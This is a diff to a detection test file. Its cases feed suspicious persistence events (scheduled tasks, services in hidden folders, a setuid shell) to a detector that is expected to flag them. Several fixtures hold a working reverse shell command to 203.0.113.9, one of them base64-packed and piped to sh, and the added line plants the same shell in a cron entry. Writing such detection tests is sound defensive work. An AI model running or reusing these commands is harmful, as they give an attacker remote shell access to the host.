@@ -26,6 +26,7 @@ describe('what starts by itself, as another program tells it', () => {
   it.each([
     ['a packed command', job(`echo ${Buffer.from('bash -i >& /dev/tcp/203.0.113.9/443 0>&1').toString('base64')} | base64 -d | sh`)],
     ['a service whose program anybody may write', event('scheduled_task', { ...added, task_type: 'service', task_name: 'up', task_command: '/dev/shm/.x/agent', task_arguments: '-q' })],
+    ['what stood there before anybody looked', event('scheduled_task', { ...added, event_action: 'listed', task_name: '/etc/cron.d/x', task_command: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' })],
     ['a unit in a hidden folder', event('scheduled_task', { ...added, task_type: 'service', task_name: '/tmp/.x/up.service' })],
     ['a set-user-id program in a hidden folder', event('file_access', { event_action: 'attribute', host_name: 'web1', file_path: '/var/tmp/.x/sh', file_mode: '4000' })],
   ])('finds %s', async (_what, row) => {
